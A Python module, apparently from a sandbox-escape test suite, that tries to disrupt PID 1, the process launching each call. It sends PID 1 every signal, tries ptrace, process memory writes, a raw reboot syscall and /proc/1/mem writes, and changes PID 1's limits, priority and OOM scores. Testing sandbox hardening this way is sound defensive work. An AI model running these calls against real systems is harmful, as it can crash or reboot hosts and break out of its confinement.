"""Attacks PID 1, which starts every call: signals, tracing, its memory, its limits, its priority."""

import os
import resource
import signal

from bypass import syscall

NUMBERS = {
    "ptrace attach": ({"x86_64": 101, "aarch64": 117}, 16, 1, 0, 0),
    "ptrace seize": ({"x86_64": 101, "aarch64": 117}, 0x4206, 1, 0, 0),
    "process_vm_writev": ({"x86_64": 311, "aarch64": 271}, 1, 0, 0, 0, 0, 0),
    "kcmp": ({"x86_64": 312, "aarch64": 272}, 1, 1, 0, 0, 0),
    "reboot": ({"x86_64": 169, "aarch64": 142}, 0xFEE1DEAD - (1 << 32), 672274793, 0x4321FEDC, 0),
    "process_madvise": ({"x86_64": 440, "aarch64": 440}, 0, 0, 0, 21, 0),
}


def descriptor_of_pid_1():
    held = os.pidfd_open(1)
    return syscall({"x86_64": 438, "aarch64": 438}, held, 0, 0) + 1


def in_workspace(bypass):
    for number in sorted(signal.valid_signals()):
        os.kill(1, number)
    for number in range(32, 65):
        os.kill(1, number)
    for name, (call, *arguments) in NUMBERS.items():
        bypass.attempt(name, lambda call=call, arguments=arguments: syscall(call, *arguments) + 1)
    bypass.attempt("a descriptor of PID 1", descriptor_of_pid_1)
    bypass.attempt("limits of PID 1", lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (3, 3)))
    bypass.attempt("priority of PID 1", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19) or "set")
    bypass.attempt("priority of everybody", lambda: os.setpriority(os.PRIO_USER, 1000, 19) or "set")
    bypass.attempt("processors of PID 1", lambda: os.sched_setaffinity(1, {0}) or "set")
    bypass.attempt("badness of PID 1", lambda: open("/proc/1/oom_score_adj", "w").write("1000"))
    bypass.attempt("memory of PID 1", lambda: open("/proc/1/mem", "r+b").write(b"\0"))
    bypass.attempt("own badness", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))
    bypass.did("attacked")


def before_call(bypass):
    if bypass.once():
        in_workspace(bypass)
